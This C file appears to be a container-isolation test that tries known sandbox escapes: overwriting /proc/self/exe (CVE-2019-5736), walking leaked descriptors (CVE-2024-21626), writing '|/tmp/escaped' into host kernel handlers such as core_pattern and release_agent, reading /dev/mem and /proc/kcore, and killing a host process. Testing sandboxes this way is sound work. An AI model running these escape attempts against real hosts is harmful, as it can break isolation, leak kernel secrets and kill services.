/*
 * What runtimes were broken by: /proc/self/exe (CVE-2019-5736), descriptors left open to the host
 * (CVE-2024-21626), and files of /proc and /sys that belong to the host's kernel.
 */
#include "escape.h"

static void own_program(void) {
  char path[64];
  int handle = open("/proc/self/exe", O_PATH | O_CLOEXEC);
  for (int i = 0; i < 3; i++) {
    snprintf(path, sizeof path, i == 0 ? "/proc/self/exe" : i == 1 ? "/proc/self/fd/%d" : "/proc/1/exe", handle);
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd >= 0) ESCAPED("%s opened for writing", path);
  }
  /* A script whose interpreter is whatever started us. */
  write_file("/tmp/script", "#!/proc/self/exe\n");
  chmod("/tmp/script", 0755);
  IN_CHILD("#!/proc/self/exe", {
    alarm(2);
    char *args[] = {"/tmp/script", NULL};
    execv("/tmp/script", args);
    _exit(0);
  });
}

/* Every descriptor that anybody in the sandbox has, and what lies around it. */
static void descriptors(void) {
  for (int pid = 0; pid < 4; pid++) {
    for (int fd = 0; fd < 64; fd++) {
      char path[64], below[128];
      if (pid == 0)
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      else
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
      struct stat s;
      if (stat(path, &s) < 0) continue;
      const char *ups[] = {"", "/..", "/../..", "/../../..", "/../../../.."};
      for (unsigned i = 0; i < sizeof ups / sizeof *ups; i++) {
        snprintf(below, sizeof below, "%s%s", path, ups[i]);
        attempt_outside(below);
      }
      if (S_ISDIR(s.st_mode)) out("descriptor %s is a directory", path);
    }
    const char *links[] = {"root", "cwd", "exe", "task/1/root", "task/1/cwd", "ns/mnt", "mountinfo"};
    for (unsigned i = 0; i < sizeof links / sizeof *links; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/%s", pid == 0 ? getpid() : pid, links[i]);
      attempt_outside(path);
    }
  }
}

static void host_files(void) {
  static const char *const written[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/vm/panic_on_oom", "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger", "/proc/sys/kernel/domainname", "/sys/fs/cgroup/release_agent", "/proc/sys/kernel/randomize_va_space", "/sys/power/state", "/proc/acpi/alarm", "/proc/scsi/scsi"};
  static const char *const secret[] = {"/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/sys/kernel/debug/kprobes/list", "/proc/kallsyms", "/sys/firmware/acpi/tables/DSDT", "/proc/keys", "/proc/timer_list", "/proc/sched_debug"};
  for (unsigned i = 0; i < sizeof written / sizeof *written; i++) {
    int fd = open(written[i], O_WRONLY);
    attempts++;
    if (fd < 0) continue;
    const char text[] = "|/tmp/escaped\n";
    if (write(fd, text, sizeof text - 1) > 0) out("wrote %s", written[i]);
    close(fd);
  }
  for (unsigned i = 0; i < sizeof secret / sizeof *secret; i++) {
    int fd = open(secret[i], O_RDONLY | O_NONBLOCK);
    attempts++;
    if (fd < 0) continue;
    char text[64];
    if (read(fd, text, sizeof text) > 0) ESCAPED("%s can be read", secret[i]);
    close(fd);
  }
}

/* Processes of the host, by their numbers there. */
static void host_processes(pid_t victim) {
  char path[64];
  kill(victim, SIGKILL);
  syscall(SYS_tgkill, victim, victim, SIGKILL);
  syscall(SYS_rt_sigqueueinfo, victim, SIGKILL, &(siginfo_t){.si_code = SI_QUEUE});
  int pidfd = (int)syscall(SYS_pidfd_open, victim, 0);
  if (pidfd >= 0) syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0);
  snprintf(path, sizeof path, "/proc/%d/root", victim);
  attempt_outside(path);
  snprintf(path, sizeof path, "/proc/%d/mem", victim);
  attempt(path);
}

int main(int argc, char **argv) {
  start(argc, argv);
  own_program();
  descriptors();
  host_files();
  if (argc > 2) host_processes(atoi(argv[2]));
  return finish();
}
